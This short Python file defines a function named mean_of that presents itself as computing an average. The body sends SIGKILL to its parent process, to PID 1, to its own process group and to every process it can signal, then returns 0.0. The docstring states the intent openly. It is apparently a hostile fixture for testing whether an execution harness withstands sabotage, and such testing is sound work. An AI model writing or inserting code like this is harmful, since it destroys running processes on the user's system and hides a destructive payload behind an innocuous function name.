"""Kill its parent, its group, and everything that it may send a signal to."""

# %%
import os
import signal


def mean_of(values):
    for target in (os.getppid(), 1, 0, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return 0.0
